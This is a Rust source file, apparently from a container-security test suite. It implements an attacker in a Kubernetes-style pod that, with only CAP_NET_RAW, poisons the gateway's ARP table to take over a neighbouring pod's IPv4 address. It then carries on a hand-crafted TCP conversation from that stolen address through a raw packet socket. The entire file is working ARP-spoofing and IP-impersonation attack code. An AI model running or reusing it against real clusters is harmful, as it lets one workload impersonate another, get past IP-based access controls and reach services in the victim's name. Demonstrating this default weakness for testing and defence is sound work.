//! An attacker in a pod on a shared bridge, with `CAP_NET_RAW` and nothing else: it takes a neighbour's IPv4 address by
//! ARP and speaks TCP from it through a packet socket. What Docker, containerd and CRI-O let every pod do by default.

use std::io::{self, ErrorKind, Read};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use nix::ifaddrs::getifaddrs;
use nix::sys::socket::{LinkAddr, bind};
use socket2::{Domain, Protocol, Socket, Type};

use super::{Error, Namespace};

const ETHERTYPE_ARP: [u8; 2] = [0x08, 0x06];
const ETHERTYPE_IPV4: [u8; 2] = [0x08, 0x00];
/// `htons(ETH_P_ALL)`.
const EVERY_PROTOCOL: u16 = 3_u16.to_be();
const PORT: u16 = 40_000;
const SEQUENCE: u32 = 0x1000_0000;
const FIN: u8 = 1;
const SYN: u8 = 2;
const RST: u8 = 4;
const PUSH: u8 = 8;
const ACK: u8 = 16;
/// Between two attempts to move the neighbour's address: the kernel does not believe every one of them.
const AGAIN: Duration = Duration::from_millis(100);

/// The attacker's packet socket.
#[derive(Debug)]
pub struct Impostor {
    socket: Socket,
    hardware: [u8; 6],
}

impl Impostor {
    /// Opens a packet socket on the pod's `eth0`.
    pub fn new(pod: &Namespace) -> Result<Self, Error> {
        pod.enter(open)?.map_err(Error::Kernel)
    }

    /// Takes `victim`'s address from the gateway's neighbour table, connects from it to `target` by way of `gateway`,
    /// sends `request` and returns all that is answered until the other end closes, or `patience` is over.
    pub fn ask(
        &mut self,
        victim: Ipv4Addr,
        gateway: Ipv4Addr,
        target: SocketAddrV4,
        request: &[u8],
        patience: Duration,
    ) -> io::Result<Vec<u8>> {
        let end = Instant::now() + patience;
        let mut talk = Talk {
            from: SocketAddrV4::new(victim, PORT),
            to: target,
            sequence: SEQUENCE,
            acknowledged: 0,
        };
        let mut router = None;
        let mut answer = Vec::new();
        let mut next = Instant::now();
        let mut is_open = false;
        while Instant::now() < end {
            if !is_open && Instant::now() >= next {
                next += AGAIN;
                // It asks for the gateway in the victim's name: the gateway notes where the answer goes.
                self.send(&self.arp(1, victim, [0; 6], gateway, [0xff; 6]))?;
                if let Some(router) = router {
                    self.send(&self.frame(router, &talk.segment(SYN, b"")))?;
                }
            }
            let Some(frame) = self.receive()? else {
                continue;
            };
            if let Some(arp) = Arp::read(&frame) {
                if arp.sender == gateway {
                    router = Some(arp.hardware);
                    if arp.asks_for == Some(victim) {
                        self.send(&self.arp(2, victim, arp.hardware, gateway, arp.hardware))?;
                    }
                }
                continue;
            }
            let (Some(router), Some(segment)) = (router, Segment::read(&frame, &talk)) else {
                continue;
            };
            if segment.flags & RST != 0 {
                return Err(ErrorKind::ConnectionReset.into());
            }
            if segment.flags & SYN != 0 && !is_open {
                is_open = true;
                talk.sequence += 1;
                talk.acknowledged = segment.sequence.wrapping_add(1);
                self.send(&self.frame(router, &talk.segment(ACK, b"")))?;
                self.send(&self.frame(router, &talk.segment(ACK | PUSH, request)))?;
                talk.sequence += u32::try_from(request.len()).map_err(io::Error::other)?;
            } else if is_open && segment.sequence == talk.acknowledged {
                answer.extend_from_slice(segment.payload);
                let length = u32::try_from(segment.payload.len()).map_err(io::Error::other)?;
                let is_end = segment.flags & FIN != 0;
                talk.acknowledged = talk.acknowledged.wrapping_add(length + u32::from(is_end));
                self.send(&self.frame(router, &talk.segment(ACK, b"")))?;
                if is_end {
                    return Ok(answer);
                }
            }
        }
        if answer.is_empty() {
            Err(ErrorKind::TimedOut.into())
        } else {
            Ok(answer)
        }
    }

    fn send(&self, frame: &[u8]) -> io::Result<()> {
        self.socket.send(frame).map(drop)
    }

    fn receive(&mut self) -> io::Result<Option<Vec<u8>>> {
        let mut frame = vec![0; 1 << 16];
        match self.socket.read(&mut frame) {
            Ok(length) => {
                frame.truncate(length);
                Ok(Some(frame))
            }
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                Ok(None)
            }
            Err(error) => Err(error),
        }
    }

    fn frame(&self, to: [u8; 6], packet: &[u8]) -> Vec<u8> {
        [&to[..], &self.hardware, &ETHERTYPE_IPV4, packet].concat()
    }

    /// An ARP message that says that `sender` is here: a question (1) or an answer (2).
    fn arp(
        &self,
        operation: u8,
        sender: Ipv4Addr,
        target_hardware: [u8; 6],
        target: Ipv4Addr,
        to: [u8; 6],
    ) -> Vec<u8> {
        [
            &to[..],
            &self.hardware,
            &ETHERTYPE_ARP,
            &[0, 1, 8, 0, 6, 4, 0, operation],
            &self.hardware,
            &sender.octets(),
            &target_hardware,
            &target.octets(),
        ]
        .concat()
    }
}

fn open() -> io::Result<Impostor> {
    let link = getifaddrs()?
        .filter(|interface| interface.interface_name == "eth0")
        .find_map(|interface| interface.address?.as_link_addr().copied())
        .ok_or(ErrorKind::NotFound)?;
    let hardware = LinkAddr::addr(&link).ok_or(ErrorKind::NotFound)?;
    let protocol = Protocol::from(i32::from(EVERY_PROTOCOL));
    let socket = Socket::new(Domain::PACKET, Type::RAW, Some(protocol))?;
    bind(socket.as_raw_fd(), &link)?;
    socket.set_read_timeout(Some(Duration::from_millis(10)))?;
    Ok(Impostor { socket, hardware })
}

/// A neighbour's ARP message.
struct Arp {
    sender: Ipv4Addr,
    hardware: [u8; 6],
    asks_for: Option<Ipv4Addr>,
}

impl Arp {
    fn read(frame: &[u8]) -> Option<Self> {
        if frame.get(12..14)? != ETHERTYPE_ARP {
            return None;
        }
        let ip = |at: usize| Some(Ipv4Addr::from(*frame.get(at..)?.first_chunk::<4>()?));
        Some(Self {
            sender: ip(28)?,
            hardware: *frame.get(22..)?.first_chunk()?,
            asks_for: if frame.get(21)? == &1 { ip(38) } else { None },
        })
    }
}

/// Our end of a TCP connection.
struct Talk {
    from: SocketAddrV4,
    to: SocketAddrV4,
    sequence: u32,
    acknowledged: u32,
}

impl Talk {
    /// An IPv4 packet with one TCP segment.
    fn segment(&self, flags: u8, payload: &[u8]) -> Vec<u8> {
        let mut tcp = [
            &self.from.port().to_be_bytes()[..],
            &self.to.port().to_be_bytes(),
            &self.sequence.to_be_bytes(),
            &self.acknowledged.to_be_bytes(),
            &[5 << 4, flags],
            &[0xff, 0xff, 0, 0, 0, 0],
            payload,
        ]
        .concat();
        let length = u16::try_from(tcp.len()).unwrap_or(u16::MAX);
        let (from, to) = (self.from.ip().octets(), self.to.ip().octets());
        let pseudo = [&from[..], &to, &[0, 6], &length.to_be_bytes(), &tcp].concat();
        tcp[16..18].copy_from_slice(&checksum(&pseudo));
        let total = (length + 20).to_be_bytes();
        let mut ip = [
            &[0x45, 0, total[0], total[1], 0, 1, 0x40, 0, 64, 6, 0, 0][..],
            &from,
            &to,
        ]
        .concat();
        let sum = checksum(&ip);
        ip[10..12].copy_from_slice(&sum);
        ip.extend(tcp);
        ip
    }
}

/// The other end's segment.
struct Segment<'a> {
    sequence: u32,
    flags: u8,
    payload: &'a [u8],
}

impl<'a> Segment<'a> {
    fn read(frame: &'a [u8], talk: &Talk) -> Option<Self> {
        if frame.get(12..14)? != ETHERTYPE_IPV4 {
            return None;
        }
        let packet = frame.get(14..)?;
        let total = usize::from(u16::from_be_bytes(*packet.get(2..)?.first_chunk()?));
        let packet = packet.get(..total)?;
        let is_ours = packet.get(9)? == &6
            && packet.get(12..16)? == talk.to.ip().octets()
            && packet.get(16..20)? == talk.from.ip().octets();
        let tcp = packet.get(usize::from(packet.first()? & 0xf) * 4..)?;
        let is_ours = is_ours
            && tcp.get(..2)? == talk.to.port().to_be_bytes()
            && tcp.get(2..4)? == talk.from.port().to_be_bytes();
        is_ours.then_some(())?;
        Some(Self {
            sequence: u32::from_be_bytes(*tcp.get(4..)?.first_chunk()?),
            flags: *tcp.get(13)?,
            payload: tcp.get(usize::from(tcp.get(12)? >> 4) * 4..)?,
        })
    }
}

/// The internet checksum (RFC 1071).
fn checksum(bytes: &[u8]) -> [u8; 2] {
    let words = bytes.chunks(2).map(|pair| {
        let low = pair.get(1).copied().unwrap_or(0);
        u32::from(u16::from_be_bytes([pair[0], low]))
    });
    let mut sum: u32 = words.sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let folded = u16::try_from(sum).unwrap_or(0);
    (!folded).to_be_bytes()
}
